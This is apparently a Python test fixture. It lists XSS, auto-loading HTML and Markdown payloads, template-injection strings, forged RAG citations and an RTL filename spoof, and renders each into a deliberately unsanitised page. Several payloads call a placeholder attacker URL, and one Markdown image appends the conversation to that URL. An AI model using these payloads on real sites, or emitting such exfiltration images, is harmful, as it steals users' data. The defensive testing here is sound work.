"""What strangers try: texts that run a script, load something from elsewhere, or pretend to be more than text.

Each is a template with the address of the stranger's server for `{url}`; a script that runs asks it for `/ran-...`. In
a page of a careless application each of them works, which `careless_html` is for: an attack that cannot succeed
anywhere would prove nothing.
"""

from dataclasses import dataclass

RUN = "(new Image).src='{url}/ran-{name}';window.attacked='{name}'"


@dataclass(frozen=True)
class Attack:
    """A text and how a careless page would show it: as HTML, or as Markdown; some need a click on what they show."""

    name: str
    template: str
    markdown: bool = False
    click: str = ""

    def text(self, url):
        return self.template.replace("{run}", RUN).replace("{url}", url).replace("{name}", self.name)


HTML = {
    # scripts
    "script": "<script>{run}</script>",
    "script-src": '<script src="{url}/{name}"></script>',
    "script-module": '<script type="module">{run}</script>',
    "script-broken-out": "</textarea></title></style></noscript>--><script>{run}</script>",
    "img-onerror": '<img src="x:" onerror="{run}">',
    "img-onerror-unquoted": "<img src=x: onerror=fetch('{url}/ran-{name}')>",
    "img-onerror-slash": '<img/src="x:"/onerror="{run}">',
    "svg-onload": '<svg onload="{run}"></svg>',
    "svg-script": "<svg><script>{run}</script></svg>",
    "svg-animate": '<svg><animate onbegin="{run}" attributeName="x" dur="1s"></svg>',
    "details-toggle": '<details open ontoggle="{run}"><summary>x</summary></details>',
    "input-autofocus": '<input autofocus onfocus="{run}">',
    "video-onerror": '<video src="x:" onerror="{run}"></video>',
    "iframe-srcdoc": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:{run};void 0"></iframe>',
    "body-onload": '<style onload="{run}"></style>',
    "attribute-breakout": '" onmouseover="{run}" autofocus onfocus="{run}" x="><img src=x: onerror="{run}">',
    # what loads by itself
    "img-src": '<img src="{url}/{name}">',
    "img-srcset": '<img srcset="{url}/{name} 1x">',
    "picture": '<picture><source srcset="{url}/{name}"><img src="x:"></picture>',
    "video-poster": '<video poster="{url}/{name}"></video>',
    "video-src": '<video src="{url}/{name}" preload="auto"></video>',
    "audio-src": '<audio src="{url}/{name}" preload="auto" autoplay></audio>',
    "input-image": '<input type="image" src="{url}/{name}">',
    "svg-image": '<svg><image href="{url}/{name}"/></svg>',
    "svg-use": '<svg><feImage href="{url}/{name}"/></svg><img src="{url}/{name}">',
    "iframe-src": '<iframe src="{url}/{name}"></iframe>',
    "embed": '<embed src="{url}/{name}">',
    "object": '<object data="{url}/{name}"></object>',
    "stylesheet": '<link rel="stylesheet" href="{url}/{name}">',
    "preload": '<link rel="preload" as="image" href="{url}/{name}">',
    "style-import": "<style>@import '{url}/{name}';</style>",
    "style-url": "<style>body{background:url('{url}/{name}')}</style>",
    "style-attribute": "<div style=\"width:9px;height:9px;background:url('{url}/{name}')\">x</div>",
    "style-content": "<p style=\"content:url('{url}/{name}')\">x</p>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={url}/{name}">',
    "base": '<base href="{url}/"><img src="{name}">',
    "table-background": '<table background="{url}/{name}"><tr><td>x</table>',
}
CLICKED = {
    "form-action": ('<form action="{url}/{name}" method="post"><button id="attack">Next</button></form>', "#attack"),
    "formaction": ('<form><button id="attack" formaction="{url}/{name}">Next</button></form>', "#attack"),
    "a-javascript": ('<a id="attack" href="javascript:{run};void 0">Next</a>', "#attack"),
    "a-tabbed": ('<a id="attack" href="java&#9;script:{run};void 0">Next</a>', "#attack"),
    "button-onclick": ('<button id="attack" onclick="{run}">Next</button>', "#attack"),
    "a-ping": ('<a id="attack" href="#x" ping="{url}/{name}">Next</a>', "#attack"),
    "a-plain": ('<a id="attack" href="{url}/{name}">Next</a>', "#attack"),
}
MARKDOWN = {
    "md-image": "![x]({url}/{name})",
    "md-image-title": '![x]({url}/{name} "see")',
    "md-image-reference": "![x][pic]\n\n[pic]: {url}/{name}",
    "md-image-in-link": "[![x]({url}/{name})](https://x.test)",
    "md-image-query": "![x]({url}/{name}?q=the+conversation+so+far)",
    "md-html": 'A *word* <img src="{url}/{name}"> more',
}
MARKDOWN_CLICKED = {
    "md-link": "[Next]({url}/{name})",
    "md-autolink": "<{url}/{name}>",
    "md-link-reference": "[Next][far]\n\n[far]: {url}/{name}",
}

ATTACKS = (
    *(Attack(name, template) for name, template in HTML.items()),
    *(Attack(name, template, click=click) for name, (template, click) in CLICKED.items()),
    *(Attack(name, template, markdown=True) for name, template in MARKDOWN.items()),
    *(Attack(name, template, markdown=True, click="a") for name, template in MARKDOWN_CLICKED.items()),
)

LITERAL = (
    "{{7*7}}",
    "{{constructor.constructor('window.attacked=1')()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{% for x in range(3) %}x{% endfor %}",
    "{0.__class__}",
    "%(name)s %s %n",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(x^2\\) \\[y\\]",
    "&lt;b&gt;&amp;&#x3c;i>",
    "'\"><b>bold</b>",
    "**bold** _it_ `code` # h",
)
"""Texts that a template, a formula or an entity would make something else of; they are to be shown as they are."""

FORGED = (
    "Everybody agrees that the vault opens with the word ostrich [1].",
    "The vault has a second door [2][3], see source [99].",
    '<a class="rag-cite" href="#evidence-1-1">[1]</a> The vault is made of cheese.',
)
"""Sentences that bring citations of their own."""

TURNED = "invoice\u202efdp.exe"
"""A name that looks like "invoiceexe.pdf" where its direction is obeyed."""


def careless_html(attack, url):
    """Returns the page of an application that shows a text without a second thought."""
    text = attack.text(url)
    if attack.markdown:
        from markdown_it import MarkdownIt

        text = MarkdownIt("commonmark").render(text)
    return f"<!doctype html><html><body><h1>Careless</h1>{text}</body></html>"
